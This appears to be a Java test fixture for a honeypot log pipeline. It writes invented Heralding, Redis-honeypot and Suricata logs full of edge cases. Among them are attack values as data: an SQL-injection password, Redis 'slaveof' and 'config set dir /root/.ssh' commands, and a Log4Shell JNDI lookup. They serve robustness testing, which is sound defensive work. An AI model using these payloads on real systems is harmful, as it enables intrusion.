package org.decnet.acceptance;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

/** A folder of logs of several sensors, all of them invented, with what databases stumble over. */
final class Sensors {
  private static final List<String> HERALDING =
      List.of(
          login("s-1", "root", "hunter2"),
          login("s-2", "Root", "hunter2"),
          login("s-3", "root ", "hunter2"),
          login("s-4", "r\\u0000\\u0001t", "\\u0000"),
          login("s-5", "\\ufdd0\\ud83d\\ude00", "%s%n' OR 1=1 --"),
          login("s-6", "n".repeat(400), "p".repeat(4_000)),
          login("s-" + "7".repeat(600), "root", "hunter2"));

  private static final List<String> REDIS =
      List.of(
          redis("NewConnect", 20),
          redis("info", 21),
          redis("slaveof 203.0.113.5 8886", 22),
          redis("config set dir /root/.ssh", 23),
          redis("Closed", 24));

  private static final List<String> SURICATA =
      List.of(
          suricata(
              "http",
              "\"http\": {\"hostname\": \"shop.example\","
                  + " \"url\": \"/a?b=%24%7bjndi:ldap://192.0.2.1/%u0000%ud83d%7d\","
                  + " \"http_user_agent\": \"curl/8\", \"http_method\": \"GET\", \"status\": 404}"),
          suricata("ssh", "\"ssh\": {\"client\": {\"proto_version\": \"2.0\"}, \"server\": {}}"));

  private Sensors() {}

  /** Writes the logs and gives their folder. */
  static Path write(Path folder) throws IOException {
    Files.createDirectories(folder);
    DemoLog.write(folder.resolve("cowrie.json"), 2);
    Files.write(folder.resolve("heralding.json"), HERALDING);
    Files.write(folder.resolve("redishoneypot.log"), REDIS);
    Files.write(folder.resolve("eve.json"), SURICATA);
    return folder;
  }

  private static String login(String session, String user, String password) {
    return "{\"timestamp\": \"2026-03-01 08:16:50.475700\", \"duration\": 0, \"session_id\": \""
        + session
        + "\", \"source_ip\": \"192.0.2.8\", \"source_port\": 34052, \"destination_ip\":"
        + " \"198.51.100.4\", \"destination_port\": 1080, \"protocol\": \"socks5\","
        + " \"num_auth_attempts\": 1, \"auth_attempts\": [{\"timestamp\": \"2026-03-01"
        + " 08:16:50.5\", \"username\": \""
        + user
        + "\", \"password\": \""
        + password
        + "\"}], \"session_ended\": true, \"auxiliary_data\": {}}";
  }

  private static String redis(String action, int second) {
    return "{\"action\":\""
        + action
        + "\",\"addr\":\"192.0.2.7:53010\",\"level\":\"info\",\"msg\":\"\","
        + "\"time\":\"2026-03-01 05:05:"
        + second
        + "\"}";
  }

  private static String suricata(String type, String own) {
    return "{\"timestamp\": \"2026-03-01T13:00:00.123456+0100\", \"flow_id\": 1234,"
        + " \"event_type\": \""
        + type
        + "\", \"src_ip\": \"192.0.2.7\", \"src_port\": 50001, \"dest_ip\": \"198.51.100.4\","
        + " \"dest_port\": 80, \"proto\": \"TCP\", \"app_proto\": \""
        + type
        + "\", "
        + own
        + "}";
  }
}
